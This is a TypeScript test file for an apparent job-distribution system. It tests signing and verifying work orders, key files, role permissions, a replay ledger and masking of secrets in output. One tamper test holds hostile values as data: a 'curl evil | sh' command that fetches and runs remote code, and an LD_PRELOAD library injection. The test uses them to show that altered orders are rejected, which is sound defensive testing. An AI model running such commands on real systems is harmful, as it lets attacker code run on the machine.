import { randomBytes } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ReplayLedger, SECRET_MASK, SecretMasker, secretValues } from "@rung/agent/internal";
import { isCopyRejection, StudyState } from "@rung/coordinator";
import {
  COORDINATOR,
  canonicalJson,
  createSigningKey,
  decode,
  encode,
  initAuth,
  MeshNames,
  readNatsCredentials,
  readSigningKey,
  rolePermissions,
  SigningKeyError,
  signOrder,
  verifyOrder,
  type WorkOrder,
  WorkOrderSchema,
} from "@rung/protocol";
import { describe, expect, it } from "vitest";

/** Signing, verification, the replay ledger, secret masking and the permission model, without a server. */

const coordinator = createSigningKey();
const attacker = createSigningKey();
const trusted = [coordinator.publicKey];

function order(o: Partial<WorkOrder> = {}): WorkOrder {
  const now = Date.now();
  return {
    v: 1,
    type: "order",
    study: "s",
    trial: "t0001",
    attempt: 1,
    pool: "gpu1",
    resources: { gpus: 1, cpus: 0 },
    argv: ["python3", "train.py", "--lr", "0.1"],
    workdir: ".",
    env: { OMP_NUM_THREADS: "1", WANDB_API_KEY: "wandb-secret-123" },
    secretEnv: ["WANDB_API_KEY"],
    params: { lr: 0.1 },
    timeAttr: "epoch",
    issuedAt: now,
    expiresAt: now + 3_600_000,
    nonce: randomBytes(12).toString("hex"),
    ...o,
  };
}

describe("signed work orders", () => {
  it("canonical JSON does not depend on key order, at any depth", () => {
    expect(canonicalJson({ b: 1, a: { d: [1, { y: 2, x: 1 }], c: "z" } })).toBe('{"a":{"c":"z","d":[1,{"x":1,"y":2}]},"b":1}');
    expect(canonicalJson({ a: undefined, b: null })).toBe('{"b":null}');
  });

  it("accepts an order signed by a trusted key, also after the msgpack round trip to the agent", () => {
    const signed = signOrder(order(), coordinator.seed);
    expect(signed.signer).toBe(coordinator.publicKey);
    expect(verifyOrder(signed, { trusted })).toEqual({ ok: true, signer: coordinator.publicKey });
    // The agent sees the decoded order: defaults filled in, unknown fields dropped.
    const wire = decode(WorkOrderSchema, encode({ ...signed, extra: "ignored" }));
    expect(wire.ok && verifyOrder(wire.value, { trusted }).ok).toBe(true);
  });

  it("rejects an order changed in any field after signing", () => {
    const signed = signOrder(order(), coordinator.seed);
    const changes: Partial<WorkOrder>[] = [
      { params: { lr: 10 } },
      { argv: ["sh", "-c", "curl evil | sh"] },
      { env: { ...signed.env, LD_PRELOAD: "/tmp/x.so" } },
      { secretEnv: [] },
      { workdir: "other" },
      { expiresAt: signed.expiresAt + 1 },
      { nonce: "a-fresh-nonce-0001" },
      { attempt: 2 },
      { study: "other" },
    ];
    for (const change of changes) {
      const r = verifyOrder({ ...signed, ...change }, { trusted });
      expect(r, JSON.stringify(change)).toMatchObject({ ok: false, reason: "bad-signature", sender: coordinator.publicKey });
    }
  });

  it("names the reason and the claimed sender: unsigned, untrusted, forged, expired, replayed", () => {
    expect(verifyOrder(order(), { trusted })).toMatchObject({ ok: false, reason: "unsigned", sender: null });
    expect(verifyOrder(signOrder(order(), attacker.seed), { trusted })).toMatchObject({
      ok: false,
      reason: "untrusted-signer",
      sender: attacker.publicKey,
    });
    // Signed by the attacker, claiming the coordinator's key.
    const forged = { ...signOrder(order(), attacker.seed), signer: coordinator.publicKey };
    expect(verifyOrder(forged, { trusted })).toMatchObject({ ok: false, reason: "bad-signature", sender: coordinator.publicKey });
    const garbage = { ...signOrder(order(), coordinator.seed), sig: "not base64 at all!" };
    expect(verifyOrder(garbage, { trusted })).toMatchObject({ ok: false, reason: "bad-signature" });
    const old = signOrder(order({ issuedAt: 1, expiresAt: Date.now() - 1000 }), coordinator.seed);
    expect(verifyOrder(old, { trusted })).toMatchObject({ ok: false, reason: "expired" });
    const signed = signOrder(order(), coordinator.seed);
    expect(verifyOrder(signed, { trusted, replayed: () => "seen before" })).toMatchObject({
      ok: false,
      reason: "replayed",
      detail: "seen before",
    });
  });

  it("reads key files as rung auth init writes them, and says clearly when it cannot", () => {
    const dir = mkdtempSync(join(tmpdir(), "rung-keys-"));
    const r = initAuth({ dir, prefix: "k" });
    expect(readSigningKey(r.signingKey.file).publicKey).toBe(r.signingKey.publicKey);
    expect(readFileSync(r.signingKey.publicFile, "utf8").trim()).toBe(r.signingKey.publicKey);
    expect(() => readSigningKey(join(dir, "missing.nk"))).toThrow(SigningKeyError);
    expect(() => readSigningKey(join(dir, "missing.nk"))).toThrow(/does not exist — create one with "rung auth init"/);
    writeFileSync(join(dir, "junk.nk"), "hello\n");
    expect(() => readSigningKey(join(dir, "junk.nk"))).toThrow(/does not hold an nkey seed/);
    expect(readNatsCredentials(join(dir, "viewer.creds")).publicKey).toMatch(/^U/);
    expect(() => readNatsCredentials(join(dir, "signing.pub"))).toThrow(/neither a NATS user JWT nor an nkey user seed/);
  });
});

describe("rung auth init", () => {
  it("writes secrets 0600, keeps existing keys on a second run and adds new agents", () => {
    const dir = join(mkdtempSync(join(tmpdir(), "rung-auth-")), "auth");
    const first = initAuth({ dir, prefix: "m", agents: ["a1"] });
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    for (const c of first.credentials) expect(statSync(c.file).mode & 0o777).toBe(0o600);
    expect(statSync(first.signingKey.file).mode & 0o777).toBe(0o600);
    expect(first.credentials.map((c) => c.label)).toEqual(["coordinator", "viewer", "agent a1"]);
    const second = initAuth({ dir, prefix: "m", agents: ["a1", "a2"] });
    expect(second.signingKey.publicKey).toBe(first.signingKey.publicKey);
    expect(second.signingKey.created).toBe(false);
    const keys = (r: typeof first) => Object.fromEntries(r.credentials.map((c) => [c.label, c.publicKey]));
    expect(keys(second)).toMatchObject(keys(first));
    expect(second.credentials.find((c) => c.label === "agent a2")?.created).toBe(true);
    const conf = readFileSync(second.config, "utf8");
    for (const c of second.credentials) expect(conf).toContain(c.publicKey);
    // Only public keys in the server fragment.
    expect(conf).not.toMatch(/\bS[UA][A-Z2-7]{50,}/);
    expect(existsSync(join(dir, "agent.creds"))).toBe(false);
    // Whether the server needs a reload: a new fragment, a changed one, the same one.
    expect([first.configState, second.configState, initAuth({ dir, prefix: "m", agents: ["a1", "a2"] }).configState]).toEqual([
      "new",
      "changed",
      "same",
    ]);
    // Agents answer only what the server delivered to them.
    expect(conf).toMatch(/allow_responses: \{ max: 1000000000, expires: "8760h" \}/);
  });

  it("scopes each role: viewers never touch work or nonces, agents publish only their own telemetry and advert", () => {
    const names = new MeshNames("rung");
    const pk = "UAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    const viewer = rolePermissions("viewer", names, { publicKey: pk });
    expect(viewer.publish.filter((s) => s.includes("RUNG_WORK"))).toEqual(["$JS.API.STREAM.INFO.RUNG_WORK"]);
    expect(viewer.publish.some((s) => s.startsWith("rung.") || s.startsWith("$KV."))).toBe(false);
    expect(viewer.subscribe).not.toContain("rung.work.>");
    expect(viewer.subscribe).toContain(`_INBOX_${pk}.>`);
    const agent = rolePermissions("agent", names, { publicKey: pk, agent: "box-1" });
    expect(agent.publish).toContain("rung.telemetry.box-1");
    expect(agent.publish).toContain("$KV.rung-agents.box-1");
    expect(agent.publish.some((s) => s.startsWith("rung.work") || s.includes("$KV.rung-control") || s.includes("UPDATE"))).toBe(
      false,
    );
    expect(agent.subscribe).toEqual([`_INBOX_${pk}.>`]);
    // Its own trial events and logs only; acks only as answers to what was delivered to it; nonces by key.
    expect(agent.publish.filter((s) => s.startsWith("rung.events") || s.startsWith("rung.logs"))).toEqual([
      "rung.events.*.*.a.box-1",
      "rung.logs.*.*.*.box-1",
    ]);
    expect(agent.publish.some((s) => s.startsWith("$JS.ACK"))).toBe(false);
    expect(agent.responses?.max).toBeGreaterThan(1_000_000);
    expect(agent.publish.filter((s) => s.includes("RUNG_NONCES") || s.includes("KV_rung-nonces"))).toEqual([
      "$JS.API.STREAM.INFO.KV_rung-nonces",
      "$JS.API.STREAM.CREATE.KV_rung-nonces",
      "$JS.API.DIRECT.GET.KV_rung-nonces.$KV.rung-nonces.>",
    ]);
    const shared = rolePermissions("agent", names, { publicKey: pk, agent: null });
    expect(shared.publish).toContain("rung.telemetry.*");
    expect(shared.publish).toContain("rung.events.*.*.a.*");
    const coord = rolePermissions("coordinator", names, { publicKey: pk });
    expect(coord.publish).toEqual(expect.arrayContaining(["rung.work.>", "rung.events.*.*.c", "$KV.rung-control.>"]));
    expect(coord.publish.some((s) => s.startsWith("rung.events") && s !== "rung.events.*.*.c")).toBe(false);
    expect(coord.publish.some((s) => s.includes("rung-agents.") && s.startsWith("$KV"))).toBe(false);
  });
});

describe("replay ledger", () => {
  it("knows an accepted nonce by its message, also after a restart, and forgets it after expiry", () => {
    const file = join(mkdtempSync(join(tmpdir(), "rung-ledger-")), "state", "accepted-orders.jsonl");
    let now = 1_000_000;
    const ledger = new ReplayLedger({ file, now: () => now });
    ledger.record("n1", 7, now + 60_000);
    ledger.record("n2", 8, now + 1000);
    expect(ledger.check("n1", 7)).toBeNull(); // the same message, redelivered
    expect(ledger.check("n1", 9)).toMatch(/nonce n1 .* message 9 is a copy/);
    expect(ledger.check("n3", 10)).toBeNull();
    const restarted = new ReplayLedger({ file, now: () => now });
    expect(restarted.check("n1", 9)).not.toBeNull();
    now += 5000;
    const later = new ReplayLedger({ file, now: () => now });
    expect(later.size).toBe(1);
    expect(later.check("n2", 99)).toBeNull();
    // A line cut short by a crash does not lose the rest.
    writeFileSync(file, `${readFileSync(file, "utf8")}{"n":"n4","s":`);
    expect(new ReplayLedger({ file, now: () => now }).check("n1", 9)).not.toBeNull();
  });

  it("stays bounded, keeping the entries that expire last", () => {
    const file = join(mkdtempSync(join(tmpdir(), "rung-ledger-")), "accepted.jsonl");
    const ledger = new ReplayLedger({ file, maxEntries: 3, now: () => 0 });
    for (let i = 1; i <= 5; i++) ledger.record(`n${i}`, i, 1000 * i);
    expect(ledger.size).toBe(3);
    expect(ledger.check("n1", 0)).toBeNull();
    expect(ledger.check("n5", 0)).not.toBeNull();
    expect(readFileSync(file, "utf8").trim().split("\n").length).toBeLessThanOrEqual(6);
  });
});

describe("secret masking", () => {
  const secret = "tok-3f9a-SECRET";
  const run = (m: SecretMasker, chunks: string[]) =>
    Buffer.concat([...chunks.map((c) => m.push(Buffer.from(c))), m.flush()]).toString();

  it("masks every occurrence, also when the output splits a secret between chunks", () => {
    const m = new SecretMasker([secret]);
    expect(run(m, [`key=${secret}\n`, `again ${secret.slice(0, 6)}`, `${secret.slice(6)} done\n`])).toBe(
      `key=${SECRET_MASK}\nagain ${SECRET_MASK} done\n`,
    );
    // A prefix that turns out not to be a secret comes out unchanged at the end.
    expect(run(new SecretMasker([secret]), ["ends with tok-3f", "9a but no more"])).toBe("ends with tok-3f9a but no more");
    expect(run(new SecretMasker([secret]), ["tail tok-"])).toBe("tail tok-");
    expect(new SecretMasker([secret]).maskText(`cannot start: PATH=${secret}`)).toBe(`cannot start: PATH=${SECRET_MASK}`);
  });

  it("takes the values of secret_env names, skipping values too short to mask", () => {
    expect(secretValues({ env: { A: "long-enough", B: "ab", C: "visible" }, secretEnv: ["A", "B", "MISSING"] })).toEqual([
      "long-enough",
    ]);
    const utf = "clé-secrète-é";
    expect(run(new SecretMasker([utf]), [Buffer.from(`x ${utf} y`).toString()])).toBe(`x ${SECRET_MASK} y`);
  });
});

describe("the coordinator and rejections", () => {
  it("a rejected copy of an order (bad signature, replay) leaves the attempt as it was; other rejections end it", () => {
    expect(isCopyRejection("replayed")).toBe(true);
    expect(isCopyRejection("bad-signature")).toBe(true);
    expect(isCopyRejection("untrusted-signer")).toBe(false);
    const state = new StudyState({ study: "s", metric: "acc", mode: "max", timeAttr: "epoch" });
    const base = { v: 1 as const, study: "s", trial: "t1", ts: 1 };
    const as = (agent: string) => ({ role: "agent" as const, agent });
    state.apply({ ...base, type: "created", params: {}, bracket: null }, COORDINATOR);
    state.apply({ ...base, type: "queued", attempt: 1 }, COORDINATOR);
    // b is handed delivery 1 first and refuses it for a reason of its own (it lacks the trust, the
    // workdir, the program): no copy, recorded as b's refusal, the order back in the queue.
    state.apply({ ...base, type: "rejected", attempt: 1, agent: "b", reason: "unsigned", detail: "x", sender: null }, as("b"));
    expect(state.trial("t1").refusals.map((r) => [r.agent, r.reason])).toEqual([["b", "unsigned"]]);
    // a gets delivery 2. A copy of the order refused elsewhere leaves a's attempt as it was …
    state.apply({ ...base, type: "claimed", attempt: 2, agent: "a", gpus: [0] }, as("a"));
    state.apply({ ...base, type: "rejected", attempt: 2, agent: "b", reason: "replayed", detail: "copy", sender: "A" }, as("b"));
    expect(state.trial("t1").attempts[1]?.status).toBe("claimed");
    // … and no other agent can end or refuse an attempt a holds.
    state.apply(
      { ...base, type: "rejected", attempt: 2, agent: "b", reason: "command-not-allowed", detail: "x", sender: null },
      as("b"),
    );
    expect(state.trial("t1").attempts[1]?.status).toBe("claimed");
    // a's own refusal of what it holds ends it.
    state.apply(
      { ...base, type: "rejected", attempt: 2, agent: "a", reason: "command-not-allowed", detail: "x", sender: null },
      as("a"),
    );
    expect(state.trial("t1").attempts[1]?.status).toBe("rejected");
  });
});
